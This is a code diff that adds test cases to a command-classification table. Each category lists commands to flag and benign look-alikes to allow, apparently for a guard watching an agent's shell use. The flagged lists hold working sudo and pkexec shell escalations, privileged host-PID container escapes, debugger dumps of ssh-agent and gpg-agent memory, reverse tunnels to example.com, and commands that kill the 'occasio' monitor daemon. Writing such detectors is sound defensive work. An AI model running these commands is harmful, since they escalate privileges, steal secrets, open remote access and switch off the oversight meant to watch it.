@@ -216,6 +216,13 @@ BUILT_IN = {
             "setcap cap_setuid+ep x",
             "chpasswd",
             "chmod +s x",
+            "sudo bash",
+            "sudo -i",
+            "sudo env sh",
+            "sudo find . -exec /bin/sh ';' -quit",
+            """sudo awk 'BEGIN {system("/bin/sh")}'""",
+            "pkexec sh",
+            "su -",
         ],
         [
             "useradd -m app",
@@ -227,6 +234,13 @@ BUILT_IN = {
             "setcap cap_net_bind_service=+ep node",
             "chmod -R u+rwX,go+rX public",
             "chmod 0644 x",
+            "sudo bash setup.sh",
+            "sudo sh -c 'apt-get update'",
+            "echo ls | sudo sh",
+            "sudo -u postgres bash",
+            "sudo bash --version",
+            "sudo apt-get install -y jq",
+            "bash",
         ],
     ),
     "other-kernel": (
@@ -234,8 +248,41 @@ BUILT_IN = {
         ["sysctl -w fs.inotify.max_user_watches=524288", "sysctl -a", "sysctl -w vm.max_map_count=262144", "lsmod"],
     ),
     "out-of-the-box": (
-        ["nsenter -t 1 -m sh", "nsenter --target 1 -m sh", "mknod /tmp/a b 8 0"],
-        ["nsenter -t 123 -n ip a", "mknod pipe p"],
+        [
+            "nsenter -t 1 -m sh",
+            "nsenter --target 1 -m sh",
+            "mknod /tmp/a b 8 0",
+            "docker run --privileged --pid=host -it alpine sh",
+            "podman run --pid host --rm --privileged alpine sh",
+        ],
+        ["nsenter -t 123 -n ip a", "mknod pipe p", "docker run --privileged docker:dind", "docker run --pid=host x ps"],
+    ),
+    "other-memory": (
+        [
+            "strace -f -p $(pgrep ssh-agent) -e read",
+            "gdb -p $(pidof gpg-agent)",
+            "gdb -p 1 -batch",
+            "gcore $(pgrep -f occasio)",
+        ],
+        ["gdb ./a.out core", "gdb -p 1234", "strace -p $(pgrep node)", "strace -f ./server", "gdb -p 12"],
+    ),
+    "open-door": (
+        [
+            "ssh -R 2222:localhost:22 -N a@example.com",
+            "ssh -fNR 1080 a@example.com",
+            "autossh -M 0 -R :9000 x",
+            "ngrok tcp 22",
+            "ngrok tcp --region eu localhost:22",
+            "chisel client example.com:8080 R:socks",
+        ],
+        [
+            "ssh -R 8080:localhost:3000 a@example.com",
+            "ssh -L 2222:localhost:22 a@example.com",
+            "ssh -p 22 example.com",
+            "ngrok http 3000",
+            "ngrok tcp 5432",
+            "chisel client example.com:8080 3000",
+        ],
     ),
     "watch-off": (
         [
@@ -249,6 +296,10 @@ BUILT_IN = {
             "auditctl -D",
             "spctl --master-disable",
             "sudo systemctl mask firewalld",
+            "pkill -f occasio",
+            "killall occasio",
+            "kill -9 $(pgrep -f 'occasio daemon')",
+            "systemctl --user stop occasio",
         ],
         [
             "systemctl status auditd",
@@ -258,6 +309,8 @@ BUILT_IN = {
             "service postgresql stop",
             "systemctl restart rsyslog",
             "pkill node",
+            "kill $(pgrep -f vite)",
+            "pgrep -f occasio",
         ],
     ),
     "forget-it": (
